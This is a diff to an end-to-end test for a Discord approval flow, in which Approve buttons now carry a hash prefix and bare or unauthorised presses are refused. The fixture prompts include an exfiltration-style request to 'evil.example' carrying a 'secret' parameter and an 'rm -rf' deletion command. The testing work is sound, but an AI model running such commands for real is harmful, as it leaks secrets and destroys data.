@@ -21,6 +21,8 @@ import { NOT_AN_APPROVER } from "../../inbound/front-desk.js";
 import { PreviewLedger } from "../common/preview-ledger.js";
 
 const DM = "800000000000000001";
+/** The hash prefix an approval question's Approve buttons carry (approval-buttons.ts). */
+const HASH = "0123456789ab";
 
 let h: DiscordHarness | undefined;
 afterEach(async () => {
@@ -326,11 +328,17 @@ describe("discord channel end to end", () => {
     await answered(discord, DM, (t) => t.includes("evil.example"), "the answer");
     await channel.send(CHAN, "fetch https://evil.example/?d=secret?", {
       approvalId: "ap9",
+      approvalHash: HASH,
       approvalShowAll: true,
     });
     // Bob is allowed (paired) but not the owner: his press is refused with a line, and the refusal
     // does not unfurl either.
-    const bob = discord.interaction({ channelId: CHAN, guildId: GUILD, user: BOB, customId: "approve:ap9" });
+    const bob = discord.interaction({
+      channelId: CHAN,
+      guildId: GUILD,
+      user: BOB,
+      customId: `approve:ap9:${HASH}`,
+    });
     await discord.waitFor(
       () => (discord.interactionCallbacks.get(bob.id) ?? []).length > 0,
       15_000,
@@ -370,12 +378,26 @@ describe("discord channel end to end", () => {
       },
     });
     const { discord, channel } = h;
-    await channel.send(CHAN, "Run `rm -rf /tmp/x`?", { approvalId: "ap1" });
+    await channel.send(CHAN, "Run `rm -rf /tmp/x`?", { approvalId: "ap1", approvalHash: HASH });
     const msg = discord.channelMessages(CHAN)[0];
-    expect(JSON.stringify(msg?.components)).toContain('"custom_id":"approve:ap1"');
+    // Approve carries the hash prefix of what the question showed; a press without it decides nothing.
+    expect(JSON.stringify(msg?.components)).toContain(`"custom_id":"approve:ap1:${HASH}"`);
     expect(JSON.stringify(msg?.components)).toContain('"custom_id":"deny:ap1"');
+    const bare = discord.interaction({ channelId: CHAN, guildId: GUILD, user: ANN, customId: "approve:ap1" });
+    await discord.waitFor(
+      () => (discord.interactionCallbacks.get(bare.id) ?? []).length > 0,
+      15_000,
+      "the bare press's answer",
+    );
+    expect(JSON.stringify(discord.interactionCallbacks.get(bare.id))).toContain("Unknown action.");
+    expect(decisions).toEqual([]);
 
-    const ix = discord.interaction({ channelId: CHAN, guildId: GUILD, user: ANN, customId: "approve:ap1" });
+    const ix = discord.interaction({
+      channelId: CHAN,
+      guildId: GUILD,
+      user: ANN,
+      customId: `approve:ap1:${HASH}`,
+    });
     await answered(
       discord,
       `interaction:${ix.token}`,
@@ -401,13 +423,13 @@ describe("discord channel end to end", () => {
       },
     });
     const { discord, channel } = h;
-    await channel.send(CHAN, "Run `rm -rf /tmp/x`?", { approvalId: "ap2" });
+    await channel.send(CHAN, "Run `rm -rf /tmp/x`?", { approvalId: "ap2", approvalHash: HASH });
     // A guild member who is not an allowed user presses the button: refused, the buttons stay.
     const bobPress = discord.interaction({
       channelId: CHAN,
       guildId: GUILD,
       user: BOB,
-      customId: "approve:ap2",
+      customId: `approve:ap2:${HASH}`,
     });
     await discord.waitFor(
       () => (discord.interactionCallbacks.get(bobPress.id) ?? []).length > 0,
@@ -432,7 +454,7 @@ describe("discord channel end to end", () => {
       channelId: CHAN,
       guildId: GUILD,
       user: ANN,
-      customId: "approve:ap2",
+      customId: `approve:ap2:${HASH}`,
     });
     await answered(discord, `interaction:${annPress.token}`, (t) => t === "Approved ap2.", "the approval");
     expect(decisions).toEqual([["ap2", "approved"]]);
